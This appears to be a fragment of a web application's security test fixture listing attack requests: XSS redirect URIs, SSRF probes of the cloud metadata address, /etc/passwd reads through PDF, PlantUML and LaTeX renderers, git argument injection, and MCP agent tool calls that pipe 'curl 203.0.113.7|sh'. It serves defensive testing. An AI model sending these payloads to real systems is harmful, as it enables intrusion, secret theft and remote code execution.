  'OAuth: a redirect of script': get('/authorize', { client_id: 'a', redirect_uri: 'javascript:alert(5)//' }),
  'OAuth: a redirect of data': get('/authorize', {
    client_id: 'a',
    redirect_uri: 'data:text/html,<script>alert(5)</script>',
  }),
  'OAuth: a request that is asked': get('/authorize', {
    client_id: 'a',
    request_uri: 'http://169.254.169.254/latest/',
  }),
  'OIDC: a logo of a client': clientJson('/register', {
    redirect_uris: ['https://a.example'],
    logo_uri: 'http://169.254.169.254/a',
    jwks_uri: 'http://127.0.0.1:22/',
  }),
  'a hook for an inner host': browserJson('/hooks', { url: 'http://[::ffff:127.0.0.1]:9200/_all' }),
  'a picture of an inner host': get('/_next/image', {
    url: 'http://169.254.169.254/latest/meta-data',
    w: '64',
    q: '75',
  }),
  'a page to print': browserJson('/pdf', { html: '<iframe src="file:///etc/passwd" width=900>' }),
  'a page to print, by object': browserJson('/pdf', {
    html: '<object data="http://169.254.169.254/latest/user-data">',
  }),
  'a page to print, by link': browserJson('/pdf', {
    html: '<link rel=attachment href="file:///etc/passwd">',
  }),
  'a diagram that includes': browserJson('/plantuml', { text: '@startuml\n!include /etc/passwd\n@enduml' }),
  'a formula that reads': browserJson('/latex', { tex: '\\input{/etc/passwd}' }),
  'a formula that runs': browserJson('/latex', { tex: '\\write18{id}' }),
  'a video that reads': clientJson('/transcode', { input: 'concat:/etc/passwd|x', options: '-f lavfi' }),
  'a repository that runs': clientJson('/import', { repo: '--upload-pack=id' }),
  'a repository by ext': clientJson('/import', { repo: 'ext::sh -c id%20' }),
  'a clone with a flag': clientJson('/import', { url: 'ssh://-oProxyCommand=id/x' }),
  'an agent that fetches': clientJson('/mcp', {
    jsonrpc: '2.0',
    id: 1,
    method: 'tools/call',
    params: { name: 'fetch', arguments: { url: 'http://169.254.169.254/latest/meta-data/' } },
  }),
  'an agent that runs': clientJson('/mcp', {
    jsonrpc: '2.0',
    id: 1,
    method: 'tools/call',
    params: { name: 'git', arguments: { path: '.; curl 203.0.113.7|sh' } },
  }),
  'an agent of stdio': clientJson('/servers', { command: 'bash', args: ['-c', 'curl 203.0.113.7|sh'] }),
};
